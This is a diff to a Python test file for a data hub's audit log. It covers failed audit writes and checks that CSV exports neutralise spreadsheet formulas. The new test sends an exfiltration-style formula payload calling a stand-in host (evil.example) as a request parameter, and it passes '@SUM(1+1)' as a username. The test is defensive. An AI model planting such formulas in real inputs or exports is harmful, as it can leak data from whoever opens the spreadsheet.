@@ -215,21 +215,44 @@ def test_audit_export_and_admin_endpoint(hub_url, hub_db_path, tmp_path):
 
 
 def test_audit_failure_withholds_data(tmp_path, hub_db_path):
-    """If the audit row cannot be written, the data is not sent."""
+    """If the audit row cannot be written, the data is not sent; and no row says the client got
+    what it did not: the row is written before the response goes out, and when the first write
+    fails, the row the log then takes says 503."""
     from jin_hub.local_server import start_hub
 
     copy = snapshot_db(hub_db_path, tmp_path / "hub.sqlite")
+    url = "/api/v1/values/police_crime/district"
     with start_hub(copy) as hub:
-        assert get(f"{hub.url}/api/v1/values/police_crime/district").status_code == 200
+        assert get(hub.url + url).status_code == 200
         blocker = sqlite3.connect(copy, timeout=1)
-        blocker.execute("PRAGMA busy_timeout=1")
-        blocker.execute("DROP TRIGGER audit_log_no_update")
+        blocker.execute("CREATE TRIGGER audit_block BEFORE INSERT ON audit_log WHEN NEW.status = 200 "
+                        "BEGIN SELECT RAISE(ABORT, 'disk full'); END")
+        blocker.commit()
+        start = last_seq(copy)
+        r = get(hub.url + url)
+        assert r.status_code == 503 and "audit log" in r.json()["detail"]
+        assert "rows" not in r.text
+        assert [(row["endpoint"], row["status"], row["rows"]) for row in audit_rows(copy, start)] == [(url, 503, 0)]
+        blocker.execute("DROP TRIGGER audit_block")
         blocker.execute("CREATE TRIGGER audit_block BEFORE INSERT ON audit_log "
                         "BEGIN SELECT RAISE(ABORT, 'disk full'); END")
         blocker.commit()
-        r = get(f"{hub.url}/api/v1/values/police_crime/district")
-        assert r.status_code == 503 and "audit log" in r.json()["detail"]
-        assert "rows" not in r.text
+        assert get(hub.url + url).status_code == 503
+        assert len(audit_rows(copy, start)) == 1                     # nothing could be logged: no row at all
+
+
+def test_audit_export_neutralises_spreadsheet_formulas(hub_url, hub_db_path, tmp_path):
+    """User names and parameters come from callers: exported, they must not run as formulas."""
+    formula = "=HYPERLINK(\"http://evil.example/\"&A1)"
+    get(f"{hub_url}/api/v1/values/police_crime/lsoa", auth=("@SUM(1+1)", "x"), params={"period": formula})
+    start = last_seq(hub_db_path) - 1
+    out = tmp_path / "audit.csv"
+    subprocess.run([sys.executable, "-m", "jin_hub", "--db", str(hub_db_path), "audit", "export",
+                    "--since", "2000-01-01", "--output", str(out)], check=True, capture_output=True)
+    exported = [r for r in csv.DictReader(out.open(encoding="utf-8")) if int(r["seq"]) > start]
+    assert [(r["username"], json.loads(r["params"])) for r in exported] == [("'@SUM(1+1)", {"period": formula})]
+    admin = get(f"{hub_url}/api/v1/admin/audit", auth=ADMIN, params={"format": "csv", "limit": 3}).text
+    assert ",'@SUM(1+1)," in admin and ",@SUM(1+1)," not in admin
 
 
 def test_signed_in_replies_are_not_cached_for_others(hub_url):
